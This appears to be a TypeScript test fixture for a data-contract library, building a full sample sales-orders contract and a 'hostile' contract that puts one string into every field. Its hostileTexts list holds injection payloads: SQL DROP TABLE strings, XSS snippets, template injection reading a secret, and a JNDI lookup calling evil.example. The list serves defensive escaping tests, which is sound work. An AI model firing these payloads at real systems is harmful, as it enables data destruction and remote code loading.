// SPDX-License-Identifier: Apache-2.0
import type { Contract } from '../model';
import {
  contract,
  object,
  property,
  qualityRule,
  server,
  serviceLevel,
} from './build';

/** A contract that has something of everything: two tables, nested members, keys, rules, promises. */
export function everything(): Contract {
  return contract(
    [
      object(
        'customers',
        [
          property('customer_id', {
            logicalType: 'integer',
            physicalType: 'bigint',
            primaryKey: true,
            primaryKeyPosition: 1,
            required: true,
            description: 'Number of the customer',
          }),
          property('email', {
            logicalType: 'string',
            physicalType: 'varchar(320)',
            typeOptions: { format: 'email', maxLength: 320 },
            unique: true,
            classification: 'confidential',
            tags: ['pii'],
          }),
        ],
        { physicalType: 'table', description: 'One row for each customer.' },
      ),
      object(
        'orders',
        [
          property('order_id', {
            logicalType: 'string',
            physicalType: 'uuid',
            primaryKey: true,
            primaryKeyPosition: 1,
            required: true,
            criticalDataElement: true,
          }),
          property('line', {
            logicalType: 'integer',
            physicalType: 'smallint',
            primaryKey: true,
            primaryKeyPosition: 2,
            required: true,
            typeOptions: { minimum: 1 },
          }),
          property('customer_id', {
            logicalType: 'integer',
            physicalType: 'bigint',
            required: true,
            relationships: [
              {
                path: '',
                type: 'foreignKey',
                from: [],
                to: ['customers.customer_id'],
              },
            ],
          }),
          property('status', {
            logicalType: 'string',
            physicalType: 'text',
            required: true,
            enum: ['open', 'paid', 'sent'],
            description: "The customer's view of it",
          }),
          property('total', {
            logicalType: 'number',
            physicalType: 'decimal(12,2)',
            examples: [12.5],
            quality: [
              qualityRule({
                name: 'total_filled',
                metric: 'nullValues',
                dimension: 'completeness',
                thresholds: [{ operator: 'mustBeLessThan', value: 1 }],
                unit: 'percent',
              }),
            ],
          }),
          property('ordered_on', {
            logicalType: 'date',
            physicalType: 'date',
            required: true,
            partitioned: true,
            partitionKeyPosition: 1,
          }),
          property('updated_at', {
            logicalType: 'timestamp',
            physicalType: 'timestamp with time zone',
          }),
          property('gift', { logicalType: 'boolean' }),
          property('address', {
            logicalType: 'object',
            properties: [
              property('city', { logicalType: 'string', required: true }),
              property('zip', {
                logicalType: 'string',
                typeOptions: { pattern: '^[0-9]{5}$' },
              }),
            ],
          }),
          property('notes', {
            logicalType: 'array',
            items: property('', { logicalType: 'string' }),
          }),
        ],
        {
          physicalType: 'table',
          businessName: 'Orders',
          description: 'One row for each line of an order.',
          quality: [
            qualityRule({
              metric: 'rowCount',
              thresholds: [{ operator: 'mustBeGreaterThan', value: 0 }],
            }),
          ],
        },
      ),
    ],
    {
      id: 'sales-orders',
      name: 'Sales orders',
      version: '1.2.0',
      domain: 'sales',
      dataProduct: 'orders',
      description: {
        purpose: 'What was ordered, by whom and for how much.',
        limitations: 'Not for marketing.',
      },
      tags: ['sales'],
      servers: [
        server('production', 'postgres', {
          host: 'db.example.com',
          port: 5432,
          database: 'shop',
          schema: 'sales',
        }),
      ],
      serviceLevels: [
        serviceLevel('latency', 4, 'h', { elements: ['orders.updated_at'] }),
        serviceLevel('retention', 3, 'y'),
      ],
      team: {
        name: 'Order team',
        members: [{ username: 'ada', name: 'Ada', role: 'Owner' }],
      },
      roles: [
        {
          path: '',
          role: 'sales_reader',
          access: 'read',
          firstLevelApprovers: 'Order team',
        },
      ],
      support: [{ channel: '#orders', url: 'https://chat.example.com/orders' }],
      price: { amount: 0.05, currency: 'EUR', unit: 'megabyte' },
      authoritativeDefinitions: [
        { url: 'https://wiki.example.com/orders', type: 'businessDefinition' },
      ],
      customProperties: [{ property: 'costCentre', value: 'C-1200' }],
    },
  );
}

/** Texts that break out of wherever they are put, if nobody takes care. */
export const hostileTexts = [
  `"; DROP TABLE users; --`,
  `'); DROP TABLE users; --`,
  '`; DROP TABLE users; --',
  ']; DROP TABLE users; --',
  "\\'; DROP TABLE users; --",
  'a\nDROP TABLE users;\n--',
  'a\u2028DROP TABLE users;',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '[click](javascript:alert(1))',
  '![x](https://evil.example/x.png)',
  '| a | b |\n| --- | --- |',
  '{{ env_var("SECRET") }}',
  '{% set x = 1 %}',
  '${jndi:ldap://evil.example}',
  '*/ evil() /*',
  '__proto__',
  'constructor',
  '   ',
  '1st',
  'naïve ☃',
  'a.b.c',
];

/** A contract with one text wherever a text can stand. */
export function hostile(text: string): Contract {
  const column = property(text, {
    logicalType: 'string',
    physicalType: text,
    businessName: text,
    description: text,
    classification: text,
    required: true,
    unique: true,
    tags: [text],
    examples: [text],
    enum: [text, 'b'],
    typeOptions: { format: text, pattern: text },
    quality: [qualityRule({ type: 'sql', name: text, query: text })],
    relationships: [
      { path: '', type: text, from: [], to: [`${text}.${text}`] },
    ],
    authoritativeDefinitions: [{ url: text, type: text }],
    customProperties: [{ property: text, value: text }],
  });
  return contract(
    [
      object(
        text,
        [
          property('id', { logicalType: 'integer', primaryKey: true }),
          column,
          property('nested', {
            logicalType: 'object',
            properties: [column],
          }),
        ],
        { description: text, businessName: text, physicalType: text },
      ),
    ],
    {
      id: text,
      name: text,
      version: text,
      status: text,
      domain: text,
      dataProduct: text,
      description: { purpose: text, usage: text, limitations: text },
      tags: [text],
      servers: [
        server(text, text, { host: text, location: text, [text]: text }),
      ],
      serviceLevels: [serviceLevel(text, text, text, { elements: [text] })],
      team: { name: text, members: [{ username: text, name: text }] },
      roles: [{ path: '', role: text, access: text, description: text }],
      support: [{ channel: text, url: text }],
      price: { amount: text, currency: text, unit: text },
      terms: { billing: text, noticePeriod: text },
      authoritativeDefinitions: [{ url: text }],
      customProperties: [{ property: text, value: text }],
    },
  );
}
